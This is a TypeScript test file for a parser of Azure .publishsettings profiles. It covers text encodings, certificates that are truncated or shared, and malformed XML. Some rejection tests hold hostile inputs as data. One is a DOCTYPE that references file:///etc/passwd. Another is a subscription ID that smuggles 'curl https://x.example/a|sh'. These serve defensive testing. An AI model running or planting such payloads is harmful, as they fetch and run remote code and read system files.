import { randomUUID } from "node:crypto";
import { describe, expect, test } from "vitest";
import { sequence } from "../../../src/core/asn1/write.ts";
import { keyPair } from "../../support/key-pair.ts";
import { codesOf, read } from "../../support/reading.ts";
import { letters } from "../../support/secrets.ts";
import { certificateBag, keyBag, macOf, pfx, safe } from "../../support/stores.ts";

const ID = "c0de5afe-2d17-4f3b-8a64-91b7e0d2f358";
const OTHER_ID = "0ddba11a-2d17-4f3b-8a64-91b7e0d2f358";
const URL = "https://management.core.windows.net/";

/** As the portal made it: no password at all. */
function published(commonName: string): string {
  const { privateKey, der } = keyPair(commonName);
  const key = privateKey.export({ type: "pkcs8", format: "der" });
  return Buffer.from(pfx([safe(keyBag(key)), safe(certificateBag(der))], macOf(null))).toString("base64");
}
const first = published("first");
const second = published("second");

const schema1 = (
  inside = `<Subscription Id="${ID}" Name="Contoso &amp; &quot;Söhne&#34; &#x65e5;" />`,
): string =>
  `<?xml version="1.0" encoding="utf-8"?>
<PublishData>
  <PublishProfile
    PublishMethod="AzureServiceManagementAPI"
    Url="${URL}"
    ManagementCertificate="${first}">
    ${inside}
  </PublishProfile>
</PublishData>`;

const subscription = (id: string, certificate: string, url = URL) =>
  `<Subscription ServiceManagementUrl='${url}' Id='${id}' Name='n' ManagementCertificate='${certificate}' />`;
const schema2 = (...subscriptions: readonly string[]): string =>
  `<PublishData><PublishProfile SchemaVersion="2.0" PublishMethod="AzureServiceManagementAPI">${subscriptions.join("")}</PublishProfile></PublishData>`;

const subscriptions = (count: number): readonly string[] =>
  Array.from({ length: count }, () => `<Subscription Id="${randomUUID()}" Name="" />`);

describe("a .publishsettings", () => {
  test.each([
    ["in UTF-8", (text: string) => Buffer.from(text)],
    ["in UTF-8 with a mark", (text: string) => Buffer.from(`\ufeff${text}`)],
    ["in UTF-16", (text: string) => Buffer.from(`\ufeff${text}`, "utf16le")],
    ["in UTF-16, big-endian", (text: string) => Buffer.from(`\ufeff${text}`, "utf16le").swap16()],
    ["in base64", (text: string) => Buffer.from(Buffer.from(text).toString("base64"))],
  ])("of schema 1 has one certificate for all, %s", (_, encode) => {
    const { file, findings } = read(encode(schema1()));
    expect(findings).toEqual([]);
    expect(file).toMatchObject({ format: "publishsettings", keyMatches: true });
    expect(file?.subscriptions).toMatchObject([
      { id: ID, name: 'Contoso & "Söhne" 日', url: URL, file: { certificates: [{ commonName: "first" }] } },
    ]);
  });

  test("of schema 2 has one for each subscription", () => {
    const { file } = read(
      schema2(subscription(ID, first), subscription(OTHER_ID, second, "https://x.example/")),
    );
    expect(file?.subscriptions).toMatchObject([
      { id: ID, url: URL, file: { certificates: [{ commonName: "first" }], keyMatches: true } },
      { id: OTHER_ID, url: "https://x.example/", file: { certificates: [{ commonName: "second" }] } },
    ]);
  });

  test("has names that are read once", () => {
    const { file } = read(schema1(`<Subscription Id="${ID}" Name="&amp;lt;b&amp;gt;" />`));
    expect(file?.subscriptions[0]?.name).toBe("&lt;b&gt;");
  });

  test("with a certificate that many subscriptions share is opened once", () => {
    const many = subscriptions(60);
    const { file } = read(schema1(many.join("<!-- > -->")));
    expect(file?.subscriptions).toHaveLength(60);
    expect(new Set(file?.subscriptions.map((one) => one.file)).size).toBe(1);
  });

  test("may have a password that nobody asked for", () => {
    expect(read(schema1(), letters(9)).file?.keyMatches).toBe(true);
  });
});

describe("a .publishsettings with a certificate that cannot be read", () => {
  const half = second.slice(0, 400);
  const FIELD = "`client-certificate`";

  test("is read for the others, and says at its subscription why not", () => {
    const { file, findings } = read(schema2(subscription(OTHER_ID, half), subscription(ID, first)));
    expect(findings).toEqual([]);
    expect(file?.certificates[0]?.commonName).toBe("first");
    const [bad, good] = file?.subscriptions ?? [];
    expect(good).toMatchObject({ id: ID, troubles: [] });
    expect(bad?.troubles).toMatchObject([{ code: "publishsettings/truncated" }]);
    expect(bad?.troubles[0]?.what).toContain(`${FIELD} of subscription ${OTHER_ID} is cut off`);
    expect(bad?.troubles[0]?.fix).toMatch(/^Download the \.publishsettings again/);
  });

  test("and nothing else is refused with all that stands against it", () => {
    const found = read(schema2(subscription(ID, "AAAA"), subscription(OTHER_ID, half)));
    expect(codesOf(found)).toEqual(["publishsettings/damaged", "publishsettings/truncated"]);
  });

  test("says how many subscriptions share it", () => {
    const ids = [OTHER_ID, randomUUID(), randomUUID()];
    const { file } = read(schema2(subscription(ID, first), ...ids.map((id) => subscription(id, half))));
    expect(file?.subscriptions[1]?.troubles[0]?.what).toContain(`${OTHER_ID} and 2 more is cut off`);
  });
});

describe("what is no .publishsettings is named:", () => {
  const webApp = `<publishData><publishProfile profileName="web" publishMethod="MSDeploy" publishUrl="web.scm.azurewebsites.net:443" userPWD="${letters(30)}" /><publishProfile publishMethod="FTP" /></publishData>`;
  test.each([
    ["the publish profile of a web app", webApp, "publishsettings/web-app"],
    ["one without its certificate", schema1().replace(first, ""), "publishsettings/no-certificate"],
    ["one without a subscription", schema1(""), "publishsettings/no-subscription"],
    ["one that is cut off", schema1().slice(0, 900), "file/truncated"],
    ["one without quotes", schema1().replaceAll('"', ""), "file/malformed"],
    ["one whose certificate is no base64", schema1().replace(first, "???"), "publishsettings/damaged"],
    [
      "one whose certificate is something else",
      schema1().replace(first, Buffer.from(sequence()).toString("base64")),
      "publishsettings/damaged",
    ],
    [
      "one with a document type",
      `<!DOCTYPE x [<!ENTITY a "b">]>${schema1()}`,
      "publishsettings/document-type",
    ],
    [
      "one with a document type further on",
      schema1('<!DOCTYPE x SYSTEM "file:///etc/passwd">'),
      "publishsettings/document-type",
    ],
    [
      "one with more subscriptions than anybody has",
      schema1(subscriptions(201).join("")),
      "file/too-complex",
    ],
    [
      "one without the ID of a subscription",
      schema1('<Subscription Name="n" />'),
      "publishsettings/strange-id",
    ],
    [
      "one with a command in place of an ID",
      schema1('<Subscription Id="x; curl https://x.example/a|sh #" Name="n" />'),
      "publishsettings/strange-id",
    ],
    ["one with an entity of its own", schema1().replace("&amp;", "&a;"), "file/malformed"],
    ["one with an entity that is a word of ours", schema1().replace("&amp;", "&valueOf;"), "file/malformed"],
    ["one with a number that goes on in letters", schema1().replace("&#34;", "&#34x;"), "file/malformed"],
  ])("%s", (_, text, code) => {
    const found = read(text);
    expect(codesOf(found)).toEqual([code]);
    expect(found.file).toBeUndefined();
  });
});
